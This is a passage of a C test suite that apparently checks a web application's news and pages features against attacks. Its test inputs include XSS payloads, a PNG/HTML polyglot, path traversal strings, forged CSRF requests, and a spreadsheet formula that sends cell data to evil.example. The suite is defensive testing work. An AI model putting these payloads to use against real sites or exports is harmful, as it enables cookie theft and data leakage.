	tn_problem(ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 6),
	    422,
	    "image");
	parts[4].data = gif;
	parts[4].len = sizeof gif - 1;
	parts[4].filename = "x.gif";
	parts[4].type = "image/gif";
	tn_problem(ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 6),
	    422,
	    "image");
	parts[4].data = "";
	parts[4].len = 0;
	parts[4].filename = "empty.png";
	parts[4].type = "image/png";
	files_back_to(files);
	r = ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 6);
	assert_true(r->status == 422 || r->status == 201);
	if (r->status == 201) {	/* an empty file is no image: the item has none */
		j = ts_jbody(r);
		snprintf(path, sizeof path, "/api/v1/news/%s", tn_jstr(j, "slug"));
		json_decref(j);
		r = tn_as(NULL, "GET", path, NULL);
		j = ts_jbody(r);
		assert_true(json_is_null(json_object_get(j, "image")));
		json_decref(j);
	}
	/* alt text has its limit */
	memset(alt, 'a', 301);
	alt[301] = '\0';
	parts[4].data = (const char *)png_head;
	parts[4].len = sizeof png_head;
	parts[5].data = alt;
	tn_problem(ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 6),
	    422,
	    "image_alt");
	files_back_to(files);	/* none kept */
	/* a PNG that is also HTML is served as a PNG, inert */
	memcpy(poly, png_head, sizeof png_head);
	n = sizeof png_head;
	n += (size_t)snprintf(poly + n, sizeof poly - n,
	    "<html><script>alert(document.cookie)</script></html>");
	parts[4].data = poly;
	parts[4].len = n;
	parts[4].filename = "x.html";
	parts[4].type = "text/html";
	parts[5].data = "NA a picture";
	r = ts_multipart_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), parts, 6);
	STATUS(r, 201);
	j = ts_jbody(r);
	snprintf(slug, sizeof slug, "%s", tn_jstr(j, "slug"));
	json_decref(j);
	snprintf(path, sizeof path, "/news/%s/image", slug);
	r = ts_get(visitor, path);
	STATUS(r, 200);
	assert_string_equal(ts_header(r, "Content-Type"), "image/png");
	assert_string_equal(ts_header(r, "X-Content-Type-Options"), "nosniff");
	assert_non_null(strstr(ts_header(r, "Content-Security-Policy"), "sandbox"));
	/* a file the form did not send is never the item's */
	r = tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:I,s:s,s:s,s:b}",
	    "title", "NA Borrowed image", "kind", "news", "visibility", "public", "image_id",
	    (json_int_t)1, "image_type", "text/html", "image_alt", "NA borrowed", "publish", 1));
	STATUS(r, 201);
	j = ts_jbody(r);
	snprintf(path, sizeof path, "/api/v1/news/%s", tn_jstr(j, "slug"));
	json_decref(j);
	r = tn_as(NULL, "GET", path, NULL);
	STATUS(r, 200);
	j = ts_jbody(r);
	assert_true(json_is_null(json_object_get(j, "image")));
	json_decref(j);
}

/* The site's pages edited with hostile content show it inert; a language
 * other than en and fr is English to readers and no page to edit; who
 * changed a page is staff's to know, on no page or JSON of anyone else;
 * only staff save one, never without the CSRF token, within the limits. */
static void
test_site_pages_attacks(void **state)
{
	struct ts_browser *de = ts_browser_new(&srv, NULL);
	const char *hdr[] = { "Accept-Language: de-DE,de;q=0.9", "Accept: application/json",
		NULL };
	char big[60100];
	const struct ts_res *r;
	size_t i;

	(void)state;
	STATUS(tn_as(&staff_p, "PUT", "/api/v1/pages/partners/en", json_pack("{s:s,s:s}", "title",
	    "NA <script>alert('pt')</script> Partners", "body",
	    "<script>alert('pb')</script>\n\n[x](javascript:alert(1)) <img src=x onerror=alert(2)>"
	    "\n\n[ok](https://example.org/partners)")), 200);
	r = ts_get(visitor, "/partners");
	STATUS(r, 200);
	LACKS(r, "<script>alert");
	LACKS(r, "javascript:");
	LACKS(r, "<img src=x");
	HAS(r, "https://example.org/partners");
	/* the page's history: staff's only */
	for (i = 0; i < sizeof nonstaff / sizeof nonstaff[0]; i++) {
		r = ts_get(tn_web(nonstaff[i]), "/partners");
		STATUS(r, 200);
		LACKS(r, staff_p.name);
		r = tn_as(nonstaff[i], "GET", "/api/v1/partners", NULL);
		STATUS(r, 200);
		LACKS(r, staff_p.name);
		LACKS(r, "updated_by");
		tn_problem(tn_as(nonstaff[i], "GET", "/api/v1/staff/pages/partners/en", NULL), 403,
		    NULL);
		tn_problem(tn_as(nonstaff[i], "GET", "/api/v1/staff/pages", NULL), 403, NULL);
		STATUS(ts_get(tn_web(nonstaff[i]), "/staff/pages/partners/en"), 403);
	}
	r = ts_get(visitor, "/partners");
	LACKS(r, staff_p.name);
	r = tn_as(NULL, "GET", "/api/v1/partners", NULL);
	LACKS(r, staff_p.name);
	tn_problem(tn_as(NULL, "GET", "/api/v1/staff/pages/partners/en", NULL), 401, NULL);
	r = ts_get(tn_web(&staff_p), "/staff/pages/partners/en");
	STATUS(r, 200);
	HAS(r, staff_p.name);
	LACKS(r, "<script>alert");
	/* languages other than en and fr */
	r = ts_req(de, "GET", "/api/v1/partners", hdr, NULL, 0);
	STATUS(r, 200);
	HAS(r, "\"language\":\"en\"");
	STATUS(ts_get(de, "/partners?lang=de"), 200);
	STATUS(ts_get(de, "/partners?lang=../../etc"), 200);
	tn_problem(tn_as(&staff_p, "PUT", "/api/v1/pages/partners/de", json_pack("{s:s,s:s}",
	    "title",
	    "NA Partner", "body", "NA body")), 404, NULL);
	tn_problem(tn_as(&staff_p, "PUT", "/api/v1/pages/partners/EN", json_pack("{s:s,s:s}",
	    "title",
	    "NA Partner", "body", "NA body")), 404, NULL);
	tn_problem(tn_as(&staff_p, "PUT", "/api/v1/pages/admin/en", json_pack("{s:s,s:s}", "title",
	    "NA Partner", "body", "NA body")), 404, NULL);
	STATUS(ts_get(tn_web(&staff_p), "/staff/pages/partners/de"), 404);
	STATUS(ts_get(tn_web(&staff_p), "/staff/pages/..%2Fabout/en"), 404);
	/* only staff; never without the CSRF token; limits */
	for (i = 0; i < sizeof nonstaff / sizeof nonstaff[0]; i++) {
		tn_problem(tn_as(nonstaff[i], "PUT", "/api/v1/pages/about/en",
		    json_pack("{s:s,s:s}",
		    "title", "NA Hijacked", "body", "NA not ours")), 403, NULL);
		STATUS(ts_form(tn_web(nonstaff[i]), "/staff/pages/about/en", "title", "NA Hijacked",
		    "body", "NA not ours", (char *)NULL), 403);
	}
	tn_problem(tn_as(NULL, "PUT", "/api/v1/pages/about/en", json_pack("{s:s,s:s}", "title",
	    "NA Hijacked", "body", "NA not ours")), 401, NULL);
	STATUS(ts_post(tn_web(&staff_p), "/staff/pages/about/en", "title", "NA No token", "body",
	    "NA no token", (char *)NULL), 403);
	{
		const char *text_h[] = { "Content-Type: text/plain", NULL };

		r = ts_req(tn_web(&staff_p), "POST", "/staff/pages/about/en", text_h,
		    "title=NA Cookie only&body=NA cookie only", 40);
		assert_true(r->status == 403 || r->status == 415);
	}
	/* JSON that is not JSON */
	r = ts_api(api_b, "PUT", "/api/v1/pages/about/en", tn_token(&staff_p), "{\"title\":");
	tn_problem(r, 400, NULL);
	memset(big, 'a', 60001);
	big[60001] = '\0';
	tn_problem(tn_as(&staff_p, "PUT", "/api/v1/pages/about/en", json_pack("{s:s,s:s}", "title",
	    "NA Big", "body", big)), 422, "body");
	memset(big, 'a', 201);
	big[201] = '\0';
	tn_problem(tn_as(&staff_p, "PUT", "/api/v1/pages/about/en", json_pack("{s:s,s:s}", "title",
	    big, "body", "NA body")), 422, "title");
	r = ts_get(visitor, "/about");
	LACKS(r, "NA Hijacked");
	LACKS(r, "NA No token");
	LACKS(r, "NA Cookie only");
	ts_browser_free(de);
}

/* Nobody but staff changes, publishes, unpublishes or deletes an item,
 * through the API or the staff's forms (whose every POST needs its CSRF
 * token, staff's too); a cookie alone does not make an API call. */
static void
test_only_staff_write(void **state)
{
	static const char *const actions[] = { "publish", "unpublish", "delete", NULL };
	char path[200], slug[100];
	const struct ts_res *r;
	int64_t id;
	json_t *j;
	size_t i, k;

	(void)state;
	id = tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s}", "title", "NA Staff draft ibis",
	    "kind",
	    "news", "visibility", "public", "slug", "na-staff-draft"), slug, sizeof slug);
	snprintf(path, sizeof path, "/api/v1/news/%lld", (long long)id);
	for (i = 0; i < sizeof nonstaff / sizeof nonstaff[0]; i++) {
		tn_problem(tn_as(nonstaff[i], "PATCH", path, json_pack("{s:s}", "title",
		    "NA Defaced")),
		    403, NULL);
		tn_problem(tn_as(nonstaff[i], "DELETE", path, NULL), 403, NULL);
		tn_problem(tn_as(nonstaff[i], "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}",
		    "title",
		    "NA Not theirs", "kind", "news", "visibility", "public")), 403, NULL);
		for (k = 0; actions[k]; k++) {
			char p[220];

			if (strcmp(actions[k], "delete") != 0) {
				snprintf(p, sizeof p, "%s/%s", path, actions[k]);
				tn_problem(tn_as(nonstaff[i], "POST", p, NULL), 403, NULL);
			}
			snprintf(p, sizeof p, "/staff/news/%lld/%s", (long long)id, actions[k]);
			STATUS(ts_form(tn_web(nonstaff[i]), p, (char *)NULL), 403);
		}
		snprintf(path, sizeof path, "/staff/news/%lld", (long long)id);
		STATUS(ts_form(tn_web(nonstaff[i]), path, "title", "NA Defaced", "kind", "news",
		    "visibility", "public", (char *)NULL), 403);
		STATUS(ts_get(tn_web(nonstaff[i]), path), 403);
		STATUS(ts_get(tn_web(nonstaff[i]), "/staff/news.csv"), 403);
		tn_problem(tn_as(nonstaff[i], "GET", "/api/v1/staff/news", NULL), 403, NULL);
		snprintf(path, sizeof path, "/api/v1/news/%lld", (long long)id);
	}
	tn_problem(tn_as(NULL, "PATCH", path, json_pack("{s:s}", "title", "NA Defaced")), 401,
	    NULL);
	tn_problem(tn_as(NULL, "DELETE", path, NULL), 401, NULL);
	snprintf(path, sizeof path, "/api/v1/news/%lld/publish", (long long)id);
	tn_problem(tn_as(NULL, "POST", path, NULL), 401, NULL);
	/* staff's forms without the token */
	for (k = 0; actions[k]; k++) {
		snprintf(path, sizeof path, "/staff/news/%lld/%s", (long long)id, actions[k]);
		STATUS(ts_post(tn_web(&staff_p), path, (char *)NULL), 403);
	}
	snprintf(path, sizeof path, "/staff/news/%lld", (long long)id);
	STATUS(ts_post(tn_web(&staff_p), path, "title", "NA Defaced", "kind", "news", "visibility",
	    "public", (char *)NULL), 403);
	STATUS(ts_post(tn_web(&staff_p), "/staff/news/new", "title", "NA Forged", "kind", "news",
	    "visibility", "public", "publish", "1", (char *)NULL), 403);
	/* what another site's page can make a staff member's browser send to
	 * the API with their cookie (a form: urlencoded, multipart or
	 * text/plain, never JSON, PATCH or DELETE without a preflight) */
	snprintf(path, sizeof path, "/api/v1/news/%lld/publish", (long long)id);
	{
		const char *form_h[] = { "Content-Type: application/x-www-form-urlencoded", NULL };
		const char *text_h[] = { "Content-Type: text/plain", NULL };

		r = ts_req(tn_web(&staff_p), "POST", path, form_h, "", 0);
		STATUS(r, 403);
		r = ts_req(tn_web(&staff_p), "POST", path, form_h, "x=1", 3);
		STATUS(r, 403);
		r = ts_req(tn_web(&staff_p), "POST", path, NULL, NULL, 0);
		STATUS(r, 403);
		r = ts_req(tn_web(&staff_p), "POST", path, text_h, "{\"a\":1}", 7);
		assert_true(r->status == 403 || r->status == 415);
		r = ts_req(tn_web(&staff_p), "POST", "/api/v1/news", text_h,
		    "{\"title\":\"NA Forged\",\"kind\":\"news\",\"visibility\":\"public\"}", 57);
		assert_true(r->status == 403 || r->status == 415);
		snprintf(path, sizeof path, "/staff/news/%lld/delete", (long long)id);
		r = ts_req(tn_web(&staff_p), "POST", path, text_h, "csrf=x", 6);
		assert_true(r->status == 403 || r->status == 415);
	}
	/* nothing changed */
	r = tn_as(&staff_p, "GET", "/api/v1/news/na-staff-draft", NULL);
	STATUS(r, 200);
	j = ts_jbody(r);
	assert_string_equal(tn_jstr(j, "title"), "NA Staff draft ibis");
	assert_string_equal(tn_jstr(j, "status"), "draft");
	json_decref(j);
	r = tn_as(&staff_p, "GET", "/api/v1/news?per_page=100", NULL);
	LACKS(r, "NA Forged");
	LACKS(r, "NA Not theirs");
}

/* Methods do not mix: a read never writes and a write is not reached by
 * another method; a PATCH sets no field the form does not have. */
static void
test_methods(void **state)
{
	char path[200], slug[100];
	const struct ts_res *r;
	int64_t id;
	json_t *j;

	(void)state;
	id = tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s}", "title", "NA Method heron",
	    "kind", "news",
	    "visibility", "public", "slug", "na-method-heron"), slug, sizeof slug);
	snprintf(path, sizeof path, "/api/v1/news/%lld/publish", (long long)id);
	r = tn_as(&staff_p, "GET", path, NULL);
	assert_true(r->status == 404 || r->status == 405);
	snprintf(path, sizeof path, "/staff/news/%lld/publish", (long long)id);
	r = ts_get(tn_web(&staff_p), path);
	assert_true(r->status == 404 || r->status == 405);
	snprintf(path, sizeof path, "/staff/news/%lld/delete", (long long)id);
	r = ts_get(tn_web(&staff_p), path);
	assert_true(r->status == 404 || r->status == 405);
	snprintf(path, sizeof path, "/api/v1/news/%lld", (long long)id);
	r = tn_as(&staff_p, "PUT", path, json_pack("{s:s}", "title", "NA Put"));
	assert_true(r->status == 404 || r->status == 405);
	r = tn_as(&staff_p, "POST", "/api/v1/news/na-method-heron", json_pack("{s:s}", "title",
	    "NA Post"));
	assert_true(r->status == 404 || r->status == 405);
	r = tn_as(&staff_p, "DELETE", "/api/v1/news/na-method-heron", NULL);
	assert_true(r->status == 404 || r->status == 405);
	r = ts_req(tn_web(&staff_p), "POST", "/news/na-method-heron", NULL, "", 0);
	assert_true(r->status == 403 || r->status == 404 || r->status == 405);
	r = ts_req(tn_web(&staff_p), "POST", "/news.atom", NULL, "", 0);
	assert_true(r->status == 403 || r->status == 404 || r->status == 405);
	/* a PATCH sets no status, author, id or date */
	r = tn_as(&staff_p, "PATCH", path, json_pack("{s:s,s:s,s:I,s:I,s:s,s:s}", "status",
	    "published", "visibility", "public", "author_id", (json_int_t)member_p.id, "id",
	    (json_int_t)1, "published_at", "2001-01-01T00:00:00Z", "author", "NA Forged author"));
	assert_true(r->status == 200 || r->status == 422);
	r = tn_as(&staff_p, "GET", "/api/v1/news/na-method-heron", NULL);
	STATUS(r, 200);
	j = ts_jbody(r);
	assert_string_equal(tn_jstr(j, "status"), "draft");
	assert_string_equal(tn_jstr(j, "author"), staff_p.name);
	assert_int_equal(json_integer_value(json_object_get(j, "id")), id);
	assert_true(json_is_null(json_object_get(j, "published_at")));
	json_decref(j);
	tn_problem(tn_as(NULL, "GET", "/api/v1/news/na-method-heron", NULL), 404, NULL);
}

/* Every size and count has its limit, and a query is checked. */
static void
test_limits(void **state)
{
	char big[60100], path[200];
	const struct ts_res *r;
	json_t *themes;
	size_t i;

	(void)state;
	memset(big, 'a', 201);
	big[201] = '\0';
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title", big,
	    "kind", "news", "visibility", "public")), 422, "title");
	memset(big, 'a', 601);
	big[601] = '\0';
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
	    "NA Summary", "kind", "news", "visibility", "public", "summary", big)), 422, "summary");
	memset(big, 'a', 60001);
	big[60001] = '\0';
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
	    "NA Body", "kind", "news", "visibility", "public", "body", big)), 422, "body");
	themes = json_array();
	for (i = 0; i < 61; i++)	/* a flood, whatever the values */
		json_array_append_new(themes, json_string("corruption"));
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:o}", "title",
	    "NA Themes", "kind", "news", "visibility", "public", "themes", themes)), 422, "themes");
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title",
	    "NA Kind", "kind", "page", "visibility", "public")), 422, "kind");
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s}", "title",
	    "NA Visibility", "kind", "news", "visibility", "staff")), 422, "visibility");
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s}", "title",
	    "NA Lang", "kind", "news", "visibility", "public", "language",
	    "en\" onmouseover=\"alert(1)")), 422, "language");
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:[s]}", "title",
	    "NA Theme", "kind", "news", "visibility", "public", "themes", "%")), 422, "themes");
	/* a body bigger than any request may be */
	{
		static const char head[] = "{\"title\":\"NA Huge\",\"kind\":\"news\","
		    "\"visibility\":\"public\",\"body\":\"";
		size_t n = 3 * 1024 * 1024, h = sizeof head - 1;
		char *huge = malloc(h + n + 3);

		assert_non_null(huge);
		memcpy(huge, head, h);
		memset(huge + h, 'a', n);
		memcpy(huge + h + n, "\"}", 3);
		r = ts_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), huge);
		free(huge);
		assert_true(r->status == 413 || r->status == 422 || r->status == 400);
	}
	tn_problem(ts_api(api_b, "POST", "/api/v1/news", tn_token(&staff_p), "[1,2"), 400, NULL);
	/* values of the wrong type */
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:i,s:s,s:s}", "title",
	    12345,
	    "kind", "news", "visibility", "public")), 422, "title");
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:{s:s},s:s}", "title",
	    "NA Object kind", "kind", "$ne", "", "visibility", "public")), 422, "kind");
	tn_problem(tn_as(&staff_p, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:[i]}", "title",
	    "NA Number theme", "kind", "news", "visibility", "public", "themes", 7)), 422,
	    "themes");
	tn_problem(ts_api(api_b, "PATCH", "/api/v1/news/1", tn_token(&staff_p), "{\"title\": }"),
	    400,
	    NULL);
	/* queries */
	tn_problem(tn_as(NULL, "GET", "/api/v1/news?per_page=1000", NULL), 422, NULL);
	tn_problem(tn_as(NULL, "GET", "/api/v1/news?per_page=0", NULL), 422, NULL);
	tn_problem(tn_as(NULL, "GET", "/api/v1/news?page=0", NULL), 422, NULL);
	tn_problem(tn_as(NULL, "GET", "/api/v1/news?page=-1", NULL), 422, NULL);
	r = tn_as(NULL, "GET", "/api/v1/news?page=99999999999999", NULL);
	assert_true(r->status == 422 || r->status == 200);
	tn_problem(tn_as(NULL, "GET", "/api/v1/news?kind=draft", NULL), 422, NULL);
	tn_problem(tn_as(NULL, "GET", "/api/v1/news?theme=%25", NULL), 422, NULL);
	tn_problem(tn_as(NULL, "GET", "/api/v1/news?theme=%22%25", NULL), 422, NULL);
	tn_problem(tn_as(&staff_p, "GET", "/api/v1/staff/news?status=deleted", NULL), 422, NULL);
	r = ts_get(visitor, "/news?kind=%3Cscript%3E");
	STATUS(r, 422);
	LACKS(r, "<script>");
	snprintf(path, sizeof path, "/api/v1/news/%s", "na-x%3Cscript%3E");
	tn_problem(tn_as(NULL, "GET", path, NULL), 404, NULL);
	/* a very long address finds nothing and breaks nothing */
	{
		char *p = malloc(6000);

		assert_non_null(p);
		memcpy(p, "/news/", 6);
		memset(p + 6, 'a', 5000);
		p[5006] = '\0';
		r = ts_get(visitor, p);
		assert_true(r->status == 404 || r->status == 414 || r->status == 400);
		free(p);
	}
	/* staff's pages are refused alike whether the item exists or not */
	STATUS(ts_get(tn_web(&member_p), "/staff/news/1"), 403);
	STATUS(ts_get(tn_web(&member_p), "/staff/news/999999"), 403);
	tn_problem(tn_as(&focal_p, "GET", "/api/v1/staff/news/1", NULL), 403, NULL);
	tn_problem(tn_as(&focal_p, "GET", "/api/v1/staff/news/999999", NULL), 403, NULL);
}

/* Staff's CSV neutralizes a title that a spreadsheet would run; a staff
 * member who deletes their account is named nowhere by what they wrote
 * (page, JSON, feed), and nobody's export lists another's items. */
static void
test_csv_and_leaving(void **state)
{
	static struct tn_person leaver = { "na.leaver@na-news.test", "Nestor Leaverwright", "staff",
		"", NULL, 0, NULL };
	char slug[100], path[200];
	const struct ts_res *r;
	json_t *j;

	(void)state;
	(void)tn_item_made(&staff_p, json_pack("{s:s,s:s,s:s,s:s}", "title",
	    "=HYPERLINK(\"https://evil.example/?\"&A1,\"NA click\")", "kind", "news",
	    "visibility", "public", "slug", "na-formula"), NULL, 0);
	r = ts_get(tn_web(&staff_p), "/staff/news.csv?status=draft");
	STATUS(r, 200);
	HAS(r, "\"'=HYPERLINK(");
	LACKS(r, ",=HYPERLINK(");
	/* a leaver's byline */
	r = tn_as(&leaver, "POST", "/api/v1/news", json_pack("{s:s,s:s,s:s,s:s,s:b}", "title",
	    "NA Written by one who leaves", "kind", "news", "visibility", "public", "summary",
	    "NA leaver summary", "publish", 1));
	STATUS(r, 201);
	j = ts_jbody(r);
	snprintf(slug, sizeof slug, "%s", tn_jstr(j, "slug"));
	json_decref(j);
	snprintf(path, sizeof path, "/api/v1/news/%s", slug);
	r = tn_as(NULL, "GET", path, NULL);
	HAS(r, "Leaverwright");
	/* the export: one's own items only */
	r = tn_as(&staff_p, "GET", "/api/v1/me/export", NULL);
	STATUS(r, 200);
	LACKS(r, "NA Written by one who leaves");
	r = tn_as(&member_p, "GET", "/api/v1/me/export", NULL);
	STATUS(r, 200);
	LACKS(r, "na-formula");
	r = tn_as(&leaver, "GET", "/api/v1/me/export", NULL);
	STATUS(r, 200);
	HAS(r, "NA Written by one who leaves");
	LACKS(r, "na-formula");
	STATUS(tn_as(&leaver, "DELETE", "/api/v1/me", json_pack("{s:s}", "password", PW)), 204);
	r = tn_as(NULL, "GET", path, NULL);
	STATUS(r, 200);
	LACKS(r, "Leaverwright");
	snprintf(path, sizeof path, "/news/%s", slug);
	r = ts_get(visitor, path);
	STATUS(r, 200);
	LACKS(r, "Leaverwright");
	r = ts_get(visitor, "/news.atom");
	LACKS(r, "Leaverwright");
	r = ts_get(tn_web(&staff_p), "/staff/news.csv");
	LACKS(r, "Leaverwright");
	ts_browser_free(leaver.web);
}

static void
test_server_stops_cleanly(void **state)
{
	(void)state;
	ts_db_close();
	assert_int_equal(ts_server_stop(&srv), 0);
}

static int
setup(void **state)
{
	static const char *const extra[] = { "--base-url", BASE, NULL };

	(void)state;
	if (ts_suite_start(&sink, &srv, &db_url, extra) != 0)
		return -1;
	ts_db_open(db_url);
	api_b = ts_browser_new(&srv, NULL);
	tn_use(&srv, api_b, db_url, PW);
	visitor = ts_browser_new(&srv, NULL);
	snprintf(orgadmin_org, sizeof orgadmin_org, "%lld", (long long)org_made(
	    "NA Orgadmin Collective", "c@na-orgadmin.example"));
	snprintf(suspended_org, sizeof suspended_org, "%lld", (long long)org_made(
	    "NA Soon Suspended Network", "c@na-soon.example"));
	orgadmin_p.org = orgadmin_org;
	suspended_p.org = suspended_org;
	return 0;
}

static int
teardown(void **state)
{
	struct tn_person *ps[] = { &staff_p, &admin_p, &member_p, &focal_p, &applicant_p,
		&orgadmin_p, &suspended_p };
	size_t i;

	(void)state;
	for (i = 0; i < sizeof ps / sizeof ps[0]; i++)
		ts_browser_free(ps[i]->web);
	ts_browser_free(api_b);
	ts_browser_free(visitor);
	ts_cleanup();
	return 0;
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_hidden_everywhere),
		cmocka_unit_test(test_suspended_and_disabled),
		cmocka_unit_test(test_story_organizations),
		cmocka_unit_test(test_hostile_markdown),
		cmocka_unit_test(test_feed_hostile),
		cmocka_unit_test(test_slug_tricks),
		cmocka_unit_test(test_image_attacks),
		cmocka_unit_test(test_site_pages_attacks),
		cmocka_unit_test(test_only_staff_write),
		cmocka_unit_test(test_methods),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_csv_and_leaving),
		cmocka_unit_test(test_server_stops_cleanly),
	};

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (getenv("WHATSON_TEST_ONLY"))
		cmocka_set_test_filter(getenv("WHATSON_TEST_ONLY"));
	return cmocka_run_group_tests_name("news_attack", tests, setup, teardown);
}
